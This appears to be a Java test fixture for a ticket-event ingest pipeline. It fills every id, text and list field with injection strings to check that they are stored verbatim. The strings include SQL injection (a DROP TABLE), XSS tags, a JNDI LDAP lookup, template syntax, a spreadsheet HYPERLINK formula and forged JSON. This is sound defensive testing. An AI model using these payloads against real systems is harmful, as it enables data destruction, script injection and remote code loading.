package io.ticketradar.pipelines.ingest;

import com.fasterxml.jackson.databind.node.ObjectNode;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;

/**
 * Valid events with injection strings in every text field: SQL, JSON, HTML, templates, the syntax of ClickHouse
 * formats and query parameters, regex replacements and spreadsheet formulas. They are events like any other (a
 * customer may well describe a fault in angle brackets), so they must be stored verbatim and break no insert.
 */
final class HostileText {

    /** Fit every string field, ids included: one line, no control characters. */
    static final List<String> ANYWHERE = List.of(
            "'); DROP TABLE ticket_events; --",
            "' OR '1'='1",
            "\\'; SELECT * FROM system.tables FORMAT JSONEachRow; --",
            "{tenant_id:String}",
            "\",\"tenant_id\":\"tenant-b",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "${jndi:ldap://example.invalid/a} {{7*7}} $1 \\0",
            "=HYPERLINK(\"http://example.invalid\")",
            "\\N",
            "🔥 故障 \u202Eevil");

    /** Only for free text: line breaks, tabs and a NUL are text, not parts of ids. */
    static final List<String> TEXT_ONLY =
            List.of("line one\nline two\r\n\t}\n{\"event_id\":\"forged\"}", "before NUL \u0000 after");

    private static final List<String> CREATED_IDS = List.of(
            "event_id",
            "tenant_id",
            "ticket_id",
            "customer_id",
            "device_sn",
            "product_model",
            "site_id",
            "region",
            "fault_code");
    private static final List<String> CREATED_TEXTS = List.of("customer_phone", "description");
    private static final List<String> CREATED_CODES = List.of("symptoms");
    // event_id and tenant_id are spoiled on TICKET_CREATED only: two events with the same ids would be one repeat.
    private static final List<String> REPAIR_IDS =
            List.of("repair_id", "device_sn", "engineer_id", "fault_code", "firmware");
    private static final List<String> REPAIR_TEXTS = List.of("root_cause");
    private static final List<String> REPAIR_CODES = List.of("parts", "photo_labels");

    private HostileText() {}

    /** Every field with every string that fits it, one event each. */
    static List<ObjectNode> events() {
        List<ObjectNode> events = new ArrayList<>();
        int[] n = {0};
        Supplier<ObjectNode> created = () -> {
            String i = String.valueOf(n[0]++);
            return IngestFixtures.created("tenant-a", "INJ-" + i, "inj-" + i, BadInput.TS);
        };
        Supplier<ObjectNode> repair = () -> IngestFixtures.repairEvent("tenant-a", "inj-" + n[0]++, BadInput.TS);
        spoil(events, created, CREATED_IDS, CREATED_TEXTS, CREATED_CODES);
        spoil(events, repair, REPAIR_IDS, REPAIR_TEXTS, REPAIR_CODES);
        return events;
    }

    private static void spoil(
            List<ObjectNode> events,
            Supplier<ObjectNode> good,
            List<String> ids,
            List<String> texts,
            List<String> codes) {
        for (String hostile : ANYWHERE) {
            ids.forEach(field -> events.add(good.get().put(field, hostile)));
            texts.forEach(field -> events.add(good.get().put(field, hostile)));
            codes.forEach(field -> {
                ObjectNode e = good.get();
                e.withArray(field).add(hostile);
                events.add(e);
            });
        }
        for (String hostile : TEXT_ONLY) {
            texts.forEach(field -> events.add(good.get().put(field, hostile)));
        }
    }
}
